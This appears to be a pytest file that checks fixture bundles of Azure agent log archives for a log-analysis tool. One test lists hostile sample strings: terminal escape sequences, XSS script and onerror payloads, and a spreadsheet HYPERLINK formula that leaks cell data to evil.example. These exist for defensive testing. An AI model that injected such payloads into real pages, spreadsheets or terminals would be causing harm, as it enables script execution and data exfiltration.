"""fixtures/build.py regenerates the committed bundles byte for byte, and they look as described."""

from __future__ import annotations

import base64
import gzip
import io
import lzma
import re
import subprocess
import sys
import tarfile
import tomllib
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "fixtures"
BUNDLES = FIXTURES / "bundles"
EXPECTED = tomllib.loads((FIXTURES / "expected.toml").read_text(encoding="utf-8"))["bundle"]
ZLIB_USED = "1.2.13"
"""zlib that produced the committed bytes; another deflate build (e.g. zlib-ng) changes them."""


def _files(root: Path) -> dict[str, bytes]:
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


def _members(name: str, data: bytes) -> Iterator[tuple[str, bytes]]:
    """Every regular file inside ``data``, recursing into archives; names joined with ``!``."""
    if name.endswith((".tgz", ".tar.gz", ".tar.xz")):
        raw = lzma.decompress(data) if name.endswith(".xz") else gzip.decompress(data)
        with tarfile.open(fileobj=io.BytesIO(raw)) as tar:
            for info in tar.getmembers():
                if info.isfile():
                    content = tar.extractfile(info)
                    assert content is not None
                    yield from _members(f"{name}!{info.name}", content.read())
    elif name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            for member in zf.namelist():
                yield from _members(f"{name}!{member}", zf.read(member))
    elif name.endswith(".gz"):
        yield name, gzip.decompress(data)
    else:
        yield name, data


def _bundle_members(path: str) -> dict[str, bytes]:
    target = BUNDLES / path
    if target.is_dir():
        return {f"{path}/{rel}": data for rel, data in _files(target).items()}
    return dict(_members(path, target.read_bytes()))


@pytest.fixture(scope="module")
def rebuilt(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("fixtures")
    subprocess.run(
        [sys.executable, str(FIXTURES / "build.py"), "--out", str(out)],
        check=True,
        capture_output=True,
    )
    return out


def test_rebuild_is_byte_identical(rebuilt: Path) -> None:
    committed, fresh = _files(BUNDLES), _files(rebuilt / "bundles")
    assert sorted(fresh) == sorted(committed)
    assert (rebuilt / "expected.toml").read_bytes() == (FIXTURES / "expected.toml").read_bytes()
    differ = [name for name in committed if committed[name] != fresh[name]]
    if differ and zlib.ZLIB_RUNTIME_VERSION != ZLIB_USED:
        pytest.skip(f"zlib {zlib.ZLIB_RUNTIME_VERSION} deflates differently from {ZLIB_USED}")
    assert differ == [], "run `python fixtures/build.py` and commit the result"


def test_build_is_deterministic(rebuilt: Path, tmp_path: Path) -> None:
    subprocess.run(
        [sys.executable, str(FIXTURES / "build.py"), "--out", str(tmp_path)],
        check=True,
        capture_output=True,
    )
    assert _files(tmp_path) == _files(rebuilt)


def test_every_expected_bundle_exists_and_is_small() -> None:
    assert len(EXPECTED) >= 40
    total = 0
    for bundle in EXPECTED:
        target = BUNDLES / bundle["path"]
        assert target.exists(), bundle["path"]
        size = (
            sum(len(d) for d in _files(target).values())
            if target.is_dir()
            else target.stat().st_size
        )
        assert size < 300 * 1024, bundle["path"]
        total += size
    assert total < 3 * 1024 * 1024


def test_rule_ids_come_from_the_design_catalogue() -> None:
    design = (ROOT / "docs" / "design.md").read_text(encoding="utf-8")
    catalogue = set(re.findall(r"^\| (WAA-[A-Z]+-\d{3}) \|", design, re.MULTILINE))
    for bundle in EXPECTED:
        named = [
            *bundle["fires"],
            *bundle["must_not_fire"],
            *(e["rule"] for e in bundle.get("evidence", [])),
        ]
        assert set(named) <= catalogue, bundle["path"]
        assert not set(bundle["fires"]) & set(bundle["must_not_fire"]), bundle["path"]
        if bundle["fires"]:
            assert bundle.get("evidence"), f"{bundle['path']}: a firing bundle needs evidence"
            assert {e["rule"] for e in bundle["evidence"]} <= set(bundle["fires"])
        else:
            assert not bundle.get("evidence")


def test_evidence_points_at_an_existing_line() -> None:
    for bundle in EXPECTED:
        members = _bundle_members(bundle["path"])
        for ev in bundle.get("evidence", []):
            hits = [name for name in members if name.endswith(ev["member_endswith"])]
            assert len(hits) == 1, (bundle["path"], ev, hits)
            lines = members[hits[0]].split(b"\n")
            assert 1 <= ev["line"] <= len(lines), (bundle["path"], ev)
            assert lines[ev["line"] - 1].strip(), (bundle["path"], ev)


def test_collector_zip_layout() -> None:
    with zipfile.ZipFile(BUNDLES / "collector-logs-g4.zip") as zf:
        names = zf.namelist()
        assert names[-1] == "results.txt"
        assert "truncated_var_log_syslog.1" in names
        assert "var/lib/waagent/GoalState.1.xml" in names
        assert zf.read("var/lib/waagent/GoalState.1.xml") == b"<xml>empty placeholder file</xml>"
        assert any(re.fullmatch(r"var/log/waagent\.log-\d{4}-\d\d-\d\d-\d+\.gz", n) for n in names)
        assert any(
            re.fullmatch(r"var/lib/waagent/history/[\dT-]+__\d+(-\d+)?\.zip", n) for n in names
        )
        assert all(not n.startswith("/") for n in names)
        results = zf.read("results.txt").decode()
        assert "Successfully compressed files. Compressed archive size is" in results


def test_nested_case_has_history_zip_three_levels_down() -> None:
    members = _bundle_members("nested-case.tgz")
    nested = [
        n
        for n in members
        if re.search(r"logs\.zip!var/lib/waagent/history/[^!]+\.zip!GoalState\.xml$", n)
    ]
    assert nested, sorted(members)[:10]


def test_archive_shapes() -> None:
    with tarfile.open(BUNDLES / "case-1234-handmade.tgz") as tar:
        assert {n.split("/")[0] for n in tar.getnames()} == {"case-1234"}
        assert all(m.uid == 0 and m.gid == 0 and m.uname == "root" for m in tar.getmembers())
    with tarfile.open(BUNDLES / "abs-paths-2.2.14.tar.gz") as tar:
        names = tar.getnames()
        assert "var/log/waagent.log" in names and not any(n.startswith("/") for n in names)
    assert (BUNDLES / "bundle.tar.xz").read_bytes()[:6] == b"\xfd7zXZ\x00"
    for path in BUNDLES.rglob("*"):
        if path.name.endswith((".tgz", ".tar.gz", ".gz")):
            head = path.read_bytes()[:10]
            assert head[:2] == b"\x1f\x8b" and head[4:8] == b"\x00\x00\x00\x00", path.name
    assert sorted(p.name for p in (BUNDLES / "flat-folder").iterdir()) == [
        "ExtensionsConfig.3.xml",
        "GoalState.3.xml",
        "waagent.log",
    ]


def test_encoded_event_message_decodes_to_the_failure() -> None:
    members = _bundle_members("ext-install-fail-encoded-2.2.44.tgz")
    log = members["ext-install-fail-encoded-2.2.44.tgz!var/log/waagent.log"].decode()
    encoded = re.search(r"op=Install, message=(eJ[A-Za-z0-9+/=]+), duration=", log)
    assert encoded is not None
    text = zlib.decompress(base64.b64decode(encoded.group(1))).decode()
    assert text.startswith("[ExtensionOperationError] Non-zero exit code: 1,")


def test_hostile_bundle_carries_its_payloads() -> None:
    members = _bundle_members("hostile-strings.tgz")
    blob = b"\n".join(members.values())
    for payload in (
        b"\x1b]0;pwned\x07",
        b"\x1b[2J",
        b"</td><script>alert(1)</script>",
        b'"><img src=x onerror=alert(1)>',
        b'=HYPERLINK("http://evil.example/?"&A1,"x")',
        b"[link=https://evil.example]x[/link]",
        b"sig=FAKESECRET",
        b"FAKEPROTECTED",
    ):
        assert payload in blob, payload


def test_sas_urls_are_fake() -> None:
    for bundle in EXPECTED:
        for name, data in _bundle_members(bundle["path"]).items():
            for sig in re.findall(rb"[?&]sig=([^&\s\"'<]+)", data):
                assert sig.startswith(b"FAKE"), (name, sig)
